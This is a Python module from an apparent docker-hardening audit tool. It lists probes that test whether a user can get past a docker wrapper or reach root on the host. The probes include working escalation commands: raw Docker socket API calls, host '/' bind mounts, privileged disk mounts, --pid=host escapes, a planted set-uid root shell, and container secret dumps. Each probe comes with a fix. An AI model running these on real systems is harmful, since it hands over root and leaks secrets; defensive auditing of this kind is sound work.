"""Probes against docker access itself: the wrapper, ways around it, options that hand over
the host, and ways into other containers. All are fixed scripts (see ``preamble``)."""

from __future__ import annotations

from stagingvm.checks.catalog.dialstdio import RAW_CREATE_AND_START
from stagingvm.checks.model import Probe

_EXEC_MARK = 'sh -c "echo $N > /tmp/mark-$ID"'

WRAPPER = "wrapper-parsing"
_W_FIX = (
    "Do not filter docker's command line: no wrapper can parse it like docker does. "
    "Take the user out of the docker group and expose fixed verbs through a root-owned "
    "helper (docs/hardened-design.md)."
)

WRAPPER_PROBES = [
    Probe(
        "wp-container-exec",
        WRAPPER,
        "`docker container exec` is the same as `exec`",
        f"docker container exec $V {_EXEC_MARK}",
        "The wrapper only looks for `exec` as the first word; the management-command spelling "
        "`container exec` runs a command in any container.",
        _W_FIX,
        "victim-write",
    ),
    Probe(
        "wp-log-level-value",
        WRAPPER,
        "a global flag's value is taken for the subcommand",
        f"docker --log-level error exec $V {_EXEC_MARK}",
        "After `--log-level` the wrapper takes `error` as the subcommand and lets `exec` through.",
        _W_FIX,
        "victim-write",
    ),
    Probe(
        "wp-context-value",
        WRAPPER,
        "`--context default exec`",
        f"docker --context default exec $V {_EXEC_MARK}",
        "`--context` takes a value, which the wrapper mistakes for the subcommand.",
        _W_FIX,
        "victim-write",
    ),
    Probe(
        "wp-host-value",
        WRAPPER,
        "`-H unix:///var/run/docker.sock exec`",
        f"docker -H unix:///var/run/docker.sock exec $V {_EXEC_MARK}",
        "`-H` with the real socket as value hides `exec` from the wrapper.",
        _W_FIX,
        "victim-write",
    ),
    Probe(
        "wp-bundled-short",
        WRAPPER,
        "bundled short flags `-Dl error exec`",
        f"docker -Dl error exec $V {_EXEC_MARK}",
        "`-Dl` is `-D -l`; the wrapper skips `-Dl` as a flag and takes its value for the "
        "subcommand.",
        _W_FIX,
        "victim-write",
    ),
    Probe(
        "wp-config-value",
        WRAPPER,
        "`--config DIR exec`",
        f"mkdir -p ~/cfg-$ID && docker --config ~/cfg-$ID exec $V {_EXEC_MARK}",
        "`--config` takes a value the wrapper treats as the subcommand.",
        _W_FIX,
        "victim-write",
    ),
    Probe(
        "wp-container-cp",
        WRAPPER,
        "`docker container cp` into a container",
        "echo $N > ~/w-$ID && docker container cp ~/w-$ID $V:/tmp/mark-$ID",
        "`container cp` copies files into (and out of) any container.",
        _W_FIX,
        "victim-write",
    ),
    Probe(
        "wp-container-export",
        WRAPPER,
        "`docker container export` dumps a container",
        "docker container export $V | tar -xOf - victim/secret",
        "`container export` exfiltrates a container's whole file system.",
        _W_FIX,
        "leak",
    ),
    Probe(
        "wp-image-save",
        WRAPPER,
        "`docker image save` dumps an image",
        "docker image save stagingvm/victim | tar -xOf - --wildcards '*.tar' "
        "| tar -xOf - victim/secret",
        "`image save` exfiltrates images, secrets baked into them included.",
        _W_FIX,
        "leak",
    ),
    Probe(
        "wp-container-commit",
        WRAPPER,
        "`docker container commit`",
        "docker container commit --pause=false $V stagingvm/$ID",  # others use $V meanwhile
        "`container commit` snapshots a running container into an image anyone can read.",
        _W_FIX,
        "image-created",
    ),
    Probe(
        "wp-image-tag",
        WRAPPER,
        "`docker image tag`",
        "docker image tag $IMG stagingvm/$ID",
        "`image tag` is the blocked `tag`, spelled differently.",
        _W_FIX,
        "image-created",
    ),
]

AROUND = "around-wrapper"
_A_FIX = (
    "Membership of the docker group is root: remove it. A PATH wrapper is advice, not "
    "a boundary; the socket is the boundary."
)

AROUND_PROBES = [
    Probe(
        "aw-full-path",
        AROUND,
        "each real docker client by its full path",
        f'for d in $DS; do echo "== $d"; "$d" exec $V {_EXEC_MARK}; done',
        "The real binary is still there; calling it by path skips the wrapper.",
        _A_FIX,
        "victim-write",
    ),
    Probe(
        "aw-env-path",
        AROUND,
        "`env PATH=DIR docker` for each directory holding a real client",
        f'for p in $DDIRS; do echo "== $p"; env PATH="$p:/usr/bin:/bin" docker exec $V '
        f"{_EXEC_MARK}; done",
        "Any other PATH finds the real docker first.",
        _A_FIX,
        "victim-write",
    ),
    Probe(
        "aw-command-p",
        AROUND,
        "`command -p docker` (the default PATH)",
        f"command -p docker exec $V {_EXEC_MARK}",
        "`command -p` searches the system default PATH, not the user's.",
        _A_FIX,
        "victim-write",
    ),
    Probe(
        "aw-copied-binary",
        AROUND,
        "a copy of the docker client",
        f'cp "$D" ~/dk-$ID 2>/dev/null || na "cannot read $D"; ~/dk-$ID exec $V {_EXEC_MARK}',
        "Even a docker binary made unreadable by path can be replaced by any copy: the "
        "client is not the boundary.",
        _A_FIX,
        "victim-write",
    ),
    Probe(
        "aw-curl-socket-exec",
        AROUND,
        "the Docker API over the socket with curl",
        "id=$(api POST /containers/$V/exec "
        '"{\\"Cmd\\":[\\"sh\\",\\"-c\\",\\"echo $N > /tmp/mark-$ID\\"]}" '
        '| sed -n \'s/.*"Id":"\\([0-9a-f]*\\)".*/\\1/p\'); echo "exec id: $id"; '
        '[ -n "$id" ] && api POST /exec/$id/start \'{"Detach":true}\'; sleep $((2*TF))',
        "Whoever can open /var/run/docker.sock can do everything the daemon can, with no "
        "client at all.",
        _A_FIX,
        "victim-write",
    ),
    Probe(
        "aw-curl-socket-inspect",
        AROUND,
        "read a container's environment over the socket",
        "api GET /containers/$O/json",
        "The raw API returns every container's environment, secrets included.",
        _A_FIX,
        "leak",
    ),
    Probe(
        "aw-python-socket-bind",
        AROUND,
        "a root container from a few lines of Python",
        'command -v python3 >/dev/null || na "python3 is not installed"\n'
        "python3 - <<'PY'\n"
        "import http.client, json, os, socket\n"
        "class C(http.client.HTTPConnection):\n"
        "    def connect(self):\n"
        "        for path in os.environ['SOCKS'].split():\n"
        "            try:\n"
        "                self.sock = socket.socket(socket.AF_UNIX)\n"
        "                self.sock.connect(path)\n"
        "                return\n"
        "            except OSError as exc:\n"
        "                print(path, exc)\n"
        "        raise OSError('no socket answered')\n"
        "e = os.environ\n"
        "name = 'stagingvm-p-' + e['ID']\n"
        "body = {'Image': e['IMG'], 'Cmd': ['sh', '-c', e['HW']],\n"
        "        'HostConfig': {'Binds': ['/:/host'], 'AutoRemove': True}}\n"
        "for method, path, data in (('POST', '/containers/create?name=' + name, body),\n"
        "                           ('POST', '/containers/%s/start' % name, None)):\n"
        "    c = C('docker')\n"
        "    c.request(method, path, json.dumps(data) if data else None,\n"
        "              {'Content-Type': 'application/json'})\n"
        "    r = c.getresponse(); print(r.status, r.read()[:200])\n"
        "PY\nsleep $((3*TF))",
        "The socket gives root on the host to any program, not only to `docker`.",
        _A_FIX,
    ),
    Probe(
        "aw-dial-stdio",
        AROUND,
        "`docker system dial-stdio` pipes raw API requests",
        RAW_CREATE_AND_START + "| tdk $((12*TF)) system dial-stdio | head -c 600; sleep 1",
        "`system dial-stdio` (allowed wherever `system *` is) connects stdin to the daemon: "
        "the raw API, as root, through an 'allowed' subcommand.",
        "Never allow `docker system *`; allow `docker system df` exactly if needed.",
    ),
]

HANDOVER = "host-handover"
_H_FIX = (
    "Never let the user choose `docker run` options. A helper that runs only allowed "
    "images with fixed, safe options (no mounts, no privileges, no host namespaces)."
)

HANDOVER_PROBES = [
    Probe(
        "ho-bind-root",
        HANDOVER,
        "`docker run -v /:/host` writes as root",
        'dk run --rm -v /:/host $IMG sh -c "$HW"',
        "A container with the host's / mounted writes any host file as root.",
        _H_FIX,
    ),
    Probe(
        "ho-mount-flag",
        HANDOVER,
        "`--mount type=bind` of a root-only directory",
        'dk run --rm --mount type=bind,source=$RM,target=/m $IMG sh -c "echo $N > /m/$ID"',
        "The `--mount` spelling of a bind mount; filters that only look for `-v` miss it.",
        _H_FIX,
    ),
    Probe(
        "ho-bind-etc-read",
        HANDOVER,
        "`-v /etc:/x` reads root-only files",
        "dk run --rm -v /etc:/x $IMG cat /x/stagingvm-canary.secret",
        "Bind-mounting /etc reads /etc/shadow and every root-only secret.",
        _H_FIX,
        "leak",
    ),
    Probe(
        "ho-privileged-mount",
        HANDOVER,
        "`--privileged` mounts the host disk",
        "dev=$(rootdev); dk run --rm --privileged $IMG sh -c "
        '"mkdir -p /m && mount $dev /m && echo $N > /m$RM/$ID"',
        "A privileged container sees every device and can mount the host's disk.",
        _H_FIX,
    ),
    Probe(
        "ho-cap-device",
        HANDOVER,
        "`--cap-add SYS_ADMIN --device` mounts the host disk",
        "dev=$(rootdev); dk run --rm --cap-add SYS_ADMIN --security-opt apparmor=unconfined "
        '--device "$dev:/dev/hostdisk" $IMG sh -c '
        '"mkdir -p /m && mount /dev/hostdisk /m && echo $N > /m$RM/$ID"',
        "One capability and one device are enough to mount the host file system.",
        _H_FIX,
    ),
    Probe(
        "ho-pid-host",
        HANDOVER,
        "`--pid=host` reaches the host through /proc/1/root",
        'dk run --rm --pid=host --cap-add SYS_PTRACE $IMG sh -c "echo $N > /proc/1/root$RM/$ID"',
        "In the host's PID namespace, /proc/1/root is the host's root directory.",
        _H_FIX,
    ),
    Probe(
        "ho-docker-sock",
        HANDOVER,
        "mount the daemon's socket into a container",
        # The real client (and, for a store path, the store it links against) goes in too.
        'set -- $SOCKS; m="-v /usr:/usr:ro"\n'
        'case $D in /nix/store/*) m="$m -v /nix/store:/nix/store:ro" ;; esac\n'
        'dk run --rm -v "$1":/var/run/docker.sock $m -v "$D":/stagingvm-docker:ro $IMG '
        '/stagingvm-docker -H unix:///var/run/docker.sock run --rm -v /:/host $IMG sh -c "$HW"',
        "A container given the socket starts further containers with any options.",
        _H_FIX,
    ),
    Probe(
        "ho-setuid-home",
        HANDOVER,
        "a set-uid root shell planted in the user's home",
        'dk run --rm -v ~:/h -v "$(readlink -f "$(command -v bash)")":/hb:ro $IMG sh -c '
        '"cp /hb /h/rootbash-$ID && chmod 4755 /h/rootbash-$ID"; '
        'ls -l ~/rootbash-$ID; ~/rootbash-$ID -p -c "echo $N > $RM/$ID"',
        "Mounting only the user's own home still lets root in the container leave a set-uid "
        "root binary behind: root for good.",
        _H_FIX,
    ),
    Probe(
        "ho-compose-file",
        HANDOVER,
        "`docker compose` with a compose file the user writes",
        'dk compose version >/dev/null 2>&1 || na "docker compose is not installed here"\n'
        'printf \'services:\\n  x:\\n    image: %s\\n    volumes: ["/:/host"]\\n'
        '    command: ["sh", "-c", "%s"]\\n\' "$IMG" "$HW" > ~/compose-$ID.yml\n'
        "dk compose -p stagingvm-$ID -f ~/compose-$ID.yml run --rm x",
        "A compose file is a `docker run` with every option, written by the user.",
        "Never allow `docker compose *`; deploy compose files as root from the config repo.",
    ),
]

CONTAINER = "container-access"
_C_FIX = (
    "Only root may run commands in or copy files into containers. Allow restart/logs "
    "on named containers through a helper, nothing that attaches or shares namespaces."
)

CONTAINER_PROBES = [
    Probe(
        "ca-start-attach",
        CONTAINER,
        "`docker start -ai` attaches to a running container",
        'echo "echo $N > /tmp/mark-$ID" | tdk $((8*TF)) start -a -i $V',
        "`start` is allowed, and `start -a -i` on a running container is `attach`: the user "
        "types into its main process.",
        _C_FIX,
        "victim-write",
    ),
    Probe(
        "ca-volumes-from",
        CONTAINER,
        "`run --volumes-from` reads another container's data",
        "dk run --rm --volumes-from $V $IMG cat /vol/secret",
        "A new container can mount every volume of the victim and read or change it.",
        _C_FIX,
        "leak",
    ),
    Probe(
        "ca-pid-container",
        CONTAINER,
        "`run --pid container:V` enters its file system",
        "dk run --rm --pid container:$V --cap-add SYS_PTRACE $IMG sh -c "
        '"cat /proc/1/root/victim/secret; echo $N > /proc/1/root/tmp/mark-$ID"',
        "Sharing the victim's PID namespace reaches its files through /proc/1/root.",
        _C_FIX,
        "victim-write",
    ),
    Probe(
        "ca-run-victim-image",
        CONTAINER,
        "run the victim's image to read its files",
        "dk run --rm stagingvm/victim cat /victim/secret",
        "Any local image can be started and read, secrets baked into it included.",
        "Let the user run only images on an allow-list.",
        "leak",
    ),
]

PROBES = WRAPPER_PROBES + AROUND_PROBES + HANDOVER_PROBES + CONTAINER_PROBES
